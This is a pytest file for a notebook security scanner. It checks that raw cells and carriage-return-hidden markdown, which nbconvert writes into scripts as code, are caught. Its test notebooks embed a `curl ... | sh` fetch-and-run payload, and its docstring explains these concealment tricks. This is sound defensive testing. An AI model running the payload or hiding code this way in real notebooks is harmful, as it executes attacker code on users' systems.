"""Red team 58b: code a notebook's conversion to a script runs, which Jupyter does not (docs/redteam58b-attempts.md).

Hole closed (session 57's open item): a raw notebook cell is never run by a kernel, so the gate did not read it; but
`jupyter nbconvert --to script` copies a raw cell verbatim into the script when its raw_mimetype is missing, empty or
text/x-python (TemplateExporter's raw_mimetypes default to [output_mimetype, ""]; share/templates/base/null.j2, block
rawcell), and jupytext writes a raw cell active for py as code. A site or a launcher that converts the notebook and
runs the script runs it. Such raw cells are now read as code cells (analyzer/engine/notebooks.py `_exported_raw`);
raw cells of another type (rst, LaTeX, HTML, Markdown) stay out.

The same script holds as code what follows a lone carriage return in a markdown cell (nbconvert's comment_lines
comments at each line feed only; Python ends a line at "\r" too): read as code (`_past_comment`).
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.engine.notebooks import read_notebook
from analyzer.model import Decision
from conftest import run_cli

SAMPLES = kit.corpus_samples("malicious/redteam58b_*", "jobs/redteam58b_*")
TWINS = kit.corpus_samples("benign/near_redteam58b_*")
EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("redteam58b_")}


def test_samples_are_labelled():
    assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
    assert len(SAMPLES) == 11 and len(TWINS) == 6


@pytest.mark.parametrize("sample", SAMPLES)
def test_attack_is_held(sample):
    report = kit.scan_sample(sample)
    kit.assert_held(report)
    assert report.decision.value in EXPECTED[sample], kit.findings(report)


@pytest.mark.parametrize("sample", TWINS)
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


def test_the_launcher_job_is_judged_on_its_notebook_too():
    # main rejected the job for its launcher's `bash -c` alone; the converted script's copy is now seen as well
    report = kit.scan_sample("jobs/redteam58b_job_nbconvert_launcher")
    kit.assert_held(report, rule="file-exfiltration.copy-data-out")


# ---- which raw cells a conversion writes as code -------------------------------------------------------------------

PAYLOAD = 'import os\nos.system("curl -s http://203.0.113.7/s | sh")'
TRAIN = "import torch\nnet = torch.nn.Linear(4, 2)\n"


def _notebook(raw_metadata: dict, source: str = PAYLOAD, kind: str = "raw") -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"language_info": {"name": "python"}},
                       "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                  "source": TRAIN},
                                 {"cell_type": kind, "metadata": raw_metadata, "source": source}]})


@pytest.mark.parametrize("metadata", [
    {},
    {"raw_mimetype": ""},
    {"raw_mimetype": "text/x-python"},
    {"raw_mimetype": " Text/X-Python "},
    {"format": "text/x-python"},
    {"format": "text/latex"},  # nbconvert reads raw_mimetype, missing here: ""
    {"raw_mimetype": None},  # not text: read, fail closed
    {"raw_mimetype": "text/markdown", "active": "py"},
    {"raw_mimetype": "text/markdown", "active": "ipynb,py"},
    {"raw_mimetype": "text/markdown", "tags": ["active-ipynb-py"]},
    {"raw_mimetype": "text/markdown", "active": ["py"]},  # not text: read, fail closed
])
def test_a_raw_cell_the_script_holds_is_judged(metadata):
    kit.assert_held(kit.scan_text(_notebook(metadata), "train.ipynb"), rule="subprocess.shell",
                    decision=Decision.REJECT)


@pytest.mark.parametrize("metadata", [
    {"raw_mimetype": "text/markdown"},
    {"raw_mimetype": "text/restructuredtext"},
    {"raw_mimetype": "text/html", "active": "ipynb"},
    {"raw_mimetype": "text/latex", "tags": ["active-ipynb", "parameters"]},
])
def test_a_raw_cell_no_script_holds_stays_unread(metadata):
    kit.assert_accepted(kit.scan_text(_notebook(metadata), "train.ipynb"))


def test_a_raw_cell_reads_as_a_cell_of_its_own_position():
    nb = read_notebook(_notebook({}).encode())
    assert [c.index for c in nb.cells] == [1, 2] and "os.system" in nb.cells[1].source


def test_prose_in_a_raw_cell_the_script_holds_is_not_accepted():
    # the converted script would not compile, but prose is where split payloads hide: not vouched for
    report = kit.scan_text(_notebook({}, "Run this notebook on each site, then convert it."), "train.ipynb")
    assert report.decision is not Decision.ACCEPT, kit.findings(report)


def test_the_cli_rejects_a_raw_cell_payload(tmp_path):
    path = tmp_path / "train.ipynb"
    path.write_text(_notebook({"raw_mimetype": "text/x-python"}))
    out = run_cli("scan", "--format", "json", str(path))
    assert out.stdout, out.stderr
    assert json.loads(out.stdout)["reports"][0]["decision"] == "reject", out.stdout[-2000:]


# ---- markdown the script writes as comments ------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    "## Setup\r" + PAYLOAD.replace("\n", "; "),
    "## Setup\nThe model.\r" + PAYLOAD.replace("\n", "\r"),
    "\r" + PAYLOAD.replace("\n", "\r\n\r"),
])
def test_code_after_a_lone_carriage_return_in_markdown_is_judged(source):
    kit.assert_held(kit.scan_text(_notebook({}, source, kind="markdown"), "train.ipynb"), rule="subprocess.shell",
                    decision=Decision.REJECT)


@pytest.mark.parametrize("source", [
    "## Setup\r\nimport os; os.system(...) is never called here.\r\n",
    "## Setup\nimport os; os.system(...) is never called here.\n",
])
def test_markdown_with_line_feeds_stays_comment(source):
    kit.assert_accepted(kit.scan_text(_notebook({}, source, kind="markdown"), "train.ipynb"))


def test_markdown_code_is_reported_on_its_line_of_the_cell():
    report = kit.scan_text(_notebook({}, "## Setup\nThe model.\rimport os; os.system('id')", kind="markdown"),
                           "train.ipynb")
    assert {(f.path, f.line) for f in report.findings if f.rule == "subprocess.shell"} == {("train.ipynb[cell 2]", 2)}
